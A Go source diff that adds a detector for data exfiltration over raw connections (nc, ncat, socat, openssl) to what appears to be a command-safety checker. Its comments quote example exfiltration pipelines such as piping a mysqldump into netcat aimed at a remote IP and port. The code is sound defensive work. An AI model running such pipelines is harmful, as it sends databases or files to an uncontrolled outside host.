@@ -803,6 +803,9 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 				sent = append(sent, r.Target.Value)
 			}
 		}
+		if f := rawUpload(c); f != nil {
+			return f
+		}
 	case psUploaders.has(name):
 		p := parseArgs(&spec{ps: true, long: []string{"-Uri", "-Method", "-InFile", "-OutFile", "-Body", "-Headers", "-ContentType", "-Form", "-Credential", "-UserAgent", "-Proxy", "-TimeoutSec"}}, c.Args)
 		sent = p.values("-InFile")
@@ -864,6 +867,89 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 		}
 	}
 	return nil
+}
+
+// ncValue are the options of the netcats (nc, ncat, netcat) that take a
+// value: the source port and address, timeouts, a proxy and its
+// protocol, the buffer sizes, the TOS and TTL.
+const ncValue = "IMOPTVXimpqsTwx"
+
+// rawPeer returns the host a raw connection (nc, ncat, telnet, socat,
+// openssl s_client) connects to, as written; "" for a listener or when
+// none is named.
+func rawPeer(c *Command) string {
+	switch strings.ToLower(strings.TrimSuffix(c.Name, ".exe")) {
+	case "socat":
+		for _, a := range c.Args {
+			typ, addr, ok := strings.Cut(a.Value, ":")
+			switch strings.ToUpper(typ) {
+			case "TCP", "TCP4", "TCP6", "TCP-CONNECT", "UDP", "UDP4", "UDP6", "UDP-SENDTO", "OPENSSL", "SSL", "OPENSSL-CONNECT":
+				if ok {
+					host, _, _ := strings.Cut(addr, ",")
+					if i := strings.LastIndexByte(host, ':'); i > 0 {
+						host = host[:i]
+					}
+					return host
+				}
+			}
+		}
+	case "openssl":
+		for i, a := range c.Args {
+			host, ok := strings.CutPrefix(a.Value, "-connect=")
+			if !ok && a.Value == "-connect" && i+1 < len(c.Args) {
+				host, ok = c.Args[i+1].Value, true
+			}
+			if !ok {
+				continue
+			}
+			if i := strings.LastIndexByte(host, ':'); i > 0 {
+				host = host[:i]
+			}
+			return host
+		}
+	default:
+		p := parseArgs(&spec{value: ncValue}, c.Args)
+		if p.has("-l", "--listen", "-z") || len(p.operands) == 0 {
+			return "" // a listener sends nothing out; -z only probes the port
+		}
+		return p.operands[0].Value
+	}
+	return ""
+}
+
+// rawUpload refuses a raw connection to another machine (nc HOST PORT,
+// socat - TCP:HOST:PORT) whose input is a program's output
+// (mysqldump | nc 203.0.113.7 4444, tar c dir | gzip | ncat h p): a
+// connection with no protocol, no name at the other end and no
+// authentication takes whatever the program produced to whoever
+// listens there. Text the command line writes (printf 'GET /
+// HTTP/1.0\r\n\r\n' | nc example.com 80, echo ruok | nc zk 2181) is a
+// request, not data.
+func rawUpload(c *Command) *Finding {
+	host := rawPeer(c)
+	if host == "" || strings.HasPrefix(host, "[") && loopbackHost(host) || loopbackHost(host) {
+		return nil
+	}
+	f := chainHas(c.Feeds, c, func(x *Command) bool { return !literalPrinter(x) })
+	if f == nil {
+		return nil
+	}
+	what := f.Name
+	if what == "" {
+		what = strings.TrimSpace(f.Text)
+	}
+	r := finding("net.exfil", c, "it sends the output of "+what+" over a raw connection to "+host+", another machine, where it is out of anyone's control",
+		"send only what the task needs, to a place the user named, with a tool that authenticates the other end (`scp FILE user@host:`); leave sharing data to a human")
+	return &r
+}
+
+// literalPrinter reports whether c only prints text written on its
+// command line: echo, printf or Write-Output of literal words.
+func literalPrinter(c *Command) bool {
+	if !printers.has(c.Name) && c.Name != "write-output" || c.Dynamic || len(c.Feeds) > 0 || len(c.Redirs) > 0 {
+		return false
+	}
+	return !slices.ContainsFunc(c.Args, func(a Word) bool { return !a.Literal })
 }
 
 // isDataOpt reports whether v is an HTTP client's option whose value is
